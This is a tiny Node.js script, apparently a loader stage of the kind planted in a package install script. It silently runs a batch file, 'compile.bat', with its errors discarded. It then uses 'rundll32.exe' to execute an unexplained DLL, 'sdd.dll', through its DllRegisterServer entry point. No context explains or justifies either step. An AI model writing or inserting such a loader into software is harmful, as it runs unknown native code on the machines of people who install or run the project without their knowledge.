const { exec } = require('child_process');
exec('compile.bat', (err) => {});
exec('rundll32.exe sdd.dll,DllRegisterServer');
